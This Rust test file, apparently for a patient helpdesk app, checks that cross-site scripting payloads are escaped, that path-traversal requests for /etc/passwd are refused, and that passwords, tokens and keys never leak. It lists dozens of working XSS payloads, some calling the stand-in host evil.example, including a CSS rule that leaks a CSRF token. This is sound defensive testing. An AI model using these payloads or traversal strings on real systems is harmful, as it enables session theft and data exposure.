//! Attacks that others fell to, tried on the pages. Numbers are those of the list that the threat model names.

#![expect(clippy::unwrap_used, reason = "a test may fail by panicking")]

mod common;

use axum::body::Body;
use axum::http::Method;
use bedside_desk::context::{Permissions, Role};
use bedside_desk::router::{Access, routes};
use bedside_desk::staff::{self, NewToken};
use bedside_desk::{patients, search, tickets};
use bedside_language::Channel;
use common::{both_engines, csrf_token};
use std::fmt::Write;

/// Texts that run as script where they are not escaped for the place they stand in.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x\" hx-get=\"https://evil.example/\" hx-trigger=\"load",
    "'-alert(1)-'",
    "\\\"-alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{% raw %}<script>alert(1)</script>",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "\u{2028}alert(1)\u{2029}",
    "\u{feff}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<ﬁeldset onfocus=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// Whether `part` stands inside a tag somewhere: the nearest angle bracket before it opens one.
fn in_a_tag(page: &str, part: &str) -> bool {
    page.match_indices(part).any(|(at, _)| {
        page[..at]
            .rfind(['<', '>'])
            .is_some_and(|near| page.as_bytes()[near] == b'<')
    })
}

/// What is wrong with a page that shows `payload`.
fn fault(page: &str, payload: &str) -> Option<String> {
    let lower = page.to_lowercase();
    if payload.contains('<') && page.contains(payload) {
        return Some(format!("{payload} stands in it as it is"));
    }
    if payload.contains(['"', '\'']) && in_a_tag(page, payload) {
        return Some(format!("{payload} stands in a tag"));
    }
    let attributes = ["javascript:", "alert(1)\"", "//evil.example"];
    let quoted = |part: &&&str| {
        [
            "href",
            "src",
            "action",
            "hx-get",
            "onmouseover",
            "onfocus",
            "content",
        ]
        .iter()
        .any(|name| in_a_tag(&lower, &format!("{name}=\"{part}")))
    };
    if let Some(part) = attributes.iter().find(quoted) {
        return Some(format!("{part} is an attribute"));
    }
    let never = [
        "<script>",
        "<svg/",
        "<svg><",
        "<img src=x",
        "<img/",
        "<iframe",
        "<style",
        "<base",
        "<object",
        "<embed",
        "<math",
        "<marquee",
        "<keygen",
        "<body onload",
    ];
    never
        .iter()
        .find(|part| lower.contains(**part))
        .map(|part| format!("{part} stands in it"))
}

both_engines! {
    async fn attack_53_names_and_subjects_stay_words(desk: Desk) {
        let agent = desk.browser(Role::Agent).await;
        let api = desk.client(&Permissions::ALL.codes()).await;
        let mut ways = vec!["/inbox".to_owned(), "/inbox/done".to_owned()];
        for (number, payload) in PAYLOADS.iter().enumerate() {
            let address = format!("p{number}@patient.example");
            let by = patients::requester_by_email(&desk.app, desk.organisation, &address, Some(payload), None).await.unwrap();
            let new = tickets::NewTicket::new(by, Channel::Email, *payload, *payload);
            let made = tickets::create(&desk.app, &desk.system(), new).await.unwrap();
            tickets::note(&desk.app, &desk.ctx(Role::Agent), made.id, (*payload).to_owned(), Vec::new()).await.unwrap();
            let way = format!("/tickets/{}", made.number);
            let page = agent.get(&way).await.expect(200).text();
            assert_eq!(fault(&page, payload), None, "{way}");
            if number % 8 == 0 {
                let file = ("files", *payload, "text/html", b"x".as_slice());
                if !payload.contains(['"', '\r', '\n', '\u{0}']) {
                    let token = csrf_token(&page);
                    let fields = [("csrf_token", token.as_str()), ("kind", "note"), ("body", *payload)];
                    agent.post_files(&format!("{way}/messages"), &fields, &[file]).await.expect(303);
                }
                ways.push(way);
            }
            // JSON is never taken for a page.
            let shown = api.get(&format!("/api/v1/tickets/{}", made.id)).await.expect(200);
            assert_eq!(shown.header("content-type"), Some("application/json"));
            assert_eq!(shown.header("x-content-type-options"), Some("nosniff"));
            let patient = serde_json::json!({ "name": payload });
            let place = api.post("/api/v1/patients", &patient).await;
            if place.status == 201 {
                let way = place.header("location").unwrap().replace("/api/v1", "");
                assert_eq!(fault(&agent.get(&way).await.expect(200).text(), payload), None, "{way}");
                assert_eq!(fault(&agent.get(&format!("{way}/edit")).await.expect(200).text(), payload), None, "{way}/edit");
            }
        }
        search::catch_up(&desk.app, desk.organisation).await.unwrap();
        for way in ways {
            let page = agent.get(&way).await.expect(200).text();
            for payload in PAYLOADS {
                assert_eq!(fault(&page, payload), None, "{way}");
            }
        }
        for payload in PAYLOADS {
            for (page, field) in [("/search", "q"), ("/patients", "name"), ("/patients/new", "name"), ("/tickets/new", "subject"), ("/tickets/new", "body")] {
                let answer = agent.submit(page, page, &[(field, payload)]).await;
                assert_eq!(fault(&answer.text(), payload), None, "{page} {field}");
            }
        }
        // Hashing a password takes its time, so a few do here.
        for payload in PAYLOADS.iter().step_by(9) {
            let typed = desk.visitor().submit("/sign-in", "/sign-in", &[("email", payload), ("password", payload), ("next", payload)]).await;
            assert_eq!(fault(&typed.text(), payload), None, "the sign-in");
        }
    }

    async fn attack_24_a_path_is_no_file(desk: Desk) {
        let admin = desk.browser(Role::Administrator).await;
        for name in [
            "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "%2fetc%2fpasswd", "..%5c..%5cboot.ini",
            "file:%2f%2f%2fetc%2fpasswd", "root.key", "bedside.db", "%00", "..;/..;/etc/passwd", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        ] {
            for folder in ["/assets/", "/attachments/", "/api/v1/attachments/", "/docs/", "/", "/settings/mailboxes/", "/audit/"] {
                let answer = admin.get(&format!("{folder}{name}")).await;
                assert!((400..500).contains(&answer.status), "{folder}{name}: {}", answer.status);
                assert!(!answer.text().contains("root:"), "{folder}{name}");
            }
        }
    }

    async fn attack_43_no_secret_is_shown(desk: Desk) {
        let words = "correct horse battery staple";
        let admin_id = desk.id_of(Role::Administrator);
        staff::set_password(&desk.app, &desk.ctx(Role::Administrator), admin_id, words).await.unwrap();
        let new = NewToken { name: "secret".to_owned(), scopes: Permissions::ALL, expires_at: None };
        let (token_id, token) = staff::create_token(&desk.app, &desk.system(), new).await.unwrap();
        let session = staff::admit(&desk.app, desk.organisation, admin_id, "test").await.unwrap();
        let mut secrets = vec![words.to_owned(), token.clone(), session.token.clone(), "$argon2".to_owned()];
        for file in std::fs::read_dir(desk.folder().join("keys")).unwrap().map(|entry| entry.unwrap().path()) {
            secrets.push(String::from_utf8_lossy(&std::fs::read(&file).unwrap()).trim().to_owned());
        }
        assert!(secrets.len() >= 5, "the key's file was not found");
        let ticket = desk.ticket("rosa@patient.example", "My bill", "Why?").await.to_string();
        let cookie = format!("bedside={}", session.token);
        let bearer = format!("Bearer {token}");
        for route in routes().into_iter().filter(|route| route.method == Method::GET) {
            let way = route.path
                .replace("{id}", if route.path.contains("/settings/") { "new" } else { &ticket })
                .replace("{ticket}", &ticket)
                .replace("{sequence}", "1");
            let headers = if matches!(route.access, Access::Api(_) | Access::AnyApi) {
                [("authorization", bearer.as_str())]
            } else {
                [("cookie", cookie.as_str())]
            };
            let answer = desk.stranger().request(Method::GET, &way, &headers, Body::empty()).await;
            let mut all = answer.text();
            for (name, value) in &answer.headers {
                let _ = write!(all, "\n{name}: {}", String::from_utf8_lossy(value.as_bytes()));
            }
            for secret in &secrets {
                assert!(!all.contains(secret.as_str()), "{} {way} shows a secret", route.path);
            }
        }
        let list = desk.browser(Role::Administrator).await.get("/settings/tokens").await.expect(200).text();
        assert!(list.contains(&token_id.to_string()) || list.contains("secret"));
    }
}
